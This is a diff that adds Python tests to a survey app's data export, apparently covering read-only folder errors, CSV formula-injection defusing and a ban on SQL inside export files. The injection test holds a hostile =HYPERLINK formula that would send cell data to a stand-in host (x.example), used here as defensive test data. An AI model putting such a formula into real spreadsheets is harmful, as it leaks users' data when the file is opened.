@@ -213,3 +213,88 @@ def test_every_format_writes_without_error_in_both_languages(filled, tmp_path):
         for lang in ("vi", "en"):
             res = run_export(store, out=tmp_path / f"{fmt}_{lang}", fmt=fmt, lang=lang)
             assert res.records == 7
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])  # Stata/SPSS files are opened in C (pyreadstat)
+def test_a_read_only_folder_is_the_clear_message_naming_the_file(filled, tmp_path, monkeypatch, fmt):
+    """QA 13: the XLSX writer's temporary folder (and every other first write) in a read-only folder
+    gives the read-only message naming the chosen file — no temporary path, no English errno — and
+    leaves nothing behind. (Root ignores chmod, so the refusal is simulated at the OS call.)"""
+    import builtins
+    import tempfile
+
+    store = filled[0]
+    ro = tmp_path / "ro"
+    ro.mkdir()
+
+    def refuse(path, *a, **kw):
+        raise PermissionError(13, "Permission denied", str(path))
+
+    real_open = builtins.open
+
+    def guarded_open(file, mode="r", *a, **kw):
+        if str(file).startswith(str(ro)) and any(m in mode for m in "wax"):
+            refuse(file)
+        return real_open(file, mode, *a, **kw)
+
+    monkeypatch.setattr(tempfile, "mkdtemp", lambda *a, dir=None, prefix="", **kw: refuse(
+        f"{dir}/{prefix}abc123"))
+    monkeypatch.setattr(builtins, "open", guarded_open)
+    with pytest.raises(AppError) as e:
+        run_export(store, out=ro / f"x.{fmt}", fmt=fmt)
+    monkeypatch.undo()
+    assert e.value.code == "READ_ONLY"
+    for lang in ("vi", "en"):
+        msg = e.value.message(lang)
+        assert str(ro) in msg and "ks-xlsx" not in msg and "Errno" not in msg and "Permission denied" not in msg
+    assert "chỉ đọc" in e.value.message("vi")
+    assert list(ro.iterdir()) == []
+
+
+def test_csv_text_that_excel_would_run_is_defused_numbers_are_not(tmp_path):
+    """CR 12: a text answer starting with = + - @ (or a tab) gets a leading apostrophe in the CSV, so
+    Excel shows it instead of running it; negative numbers stay numbers; the XLSX holds text cells."""
+    import csv
+    import zipfile
+
+    hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    store, ids = make_store(tmp_path / "f.db", [
+        ("10001", "complete", {"consent": "1", "head_name": hostile, "phone": "+84912345678",
+                               "note_free": "@SUM(1)", "hh_internet": "1", "net_type": "fibre", "ict_spend": "-5",
+                               "income": "-0.5", "hh_sell": "2",
+                               "mem": [{"m_name": "-Ấn", "m_age": "45", "m_sex": "1", "m_net": "2",
+                                        "m_cccd": "\t001085012345"}]}),
+        ("10001", "complete", {"consent": "1", "head_name": "Lê Văn Đức", "hh_internet": "2", "ict_spend": "7",
+                               "income": "8", "hh_sell": "2"})])
+    try:
+        res = run_export(store, out=tmp_path / "o", fmt="csv")
+        run_export(store, out=tmp_path / "o.xlsx", fmt="xlsx")
+    finally:
+        store.close()
+    with open(res.files[0], encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    first = rows[0]
+    assert first["head_name"] == "'" + hostile and first["phone"] == "'+84912345678"
+    assert first["note_free"] == "'@SUM(1)"
+    assert first["ict_spend"] == "-5" and first["income"] == "-0.5"  # numbers stay numbers
+    assert rows[1]["head_name"] == "Lê Văn Đức"  # ordinary text unchanged
+    with open(res.files[1], encoding="utf-8-sig", newline="") as fh:
+        mem = list(csv.DictReader(fh))
+    assert mem[0]["m_name"] == "'-Ấn"
+    with zipfile.ZipFile(tmp_path / "o.xlsx") as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in x for x in sheets)  # never a formula cell
+    assert any("=HYPERLINK(" in x and 't="inlineStr"' in x for x in sheets)
+
+
+def test_no_sql_is_written_inside_exports():
+    """CR 19: exports/ receives rows from models/ functions (models/queries.py, models/indicators.py)."""
+    import re
+    from pathlib import Path
+
+    import exports
+
+    for path in Path(exports.__file__).parent.glob("*.py"):
+        text = path.read_text(encoding="utf-8")
+        assert not re.search(r"\b(SELECT|INSERT|UPDATE|DELETE)\s+[\w*(]", text), path.name
+        assert ".execute(" not in text, path.name
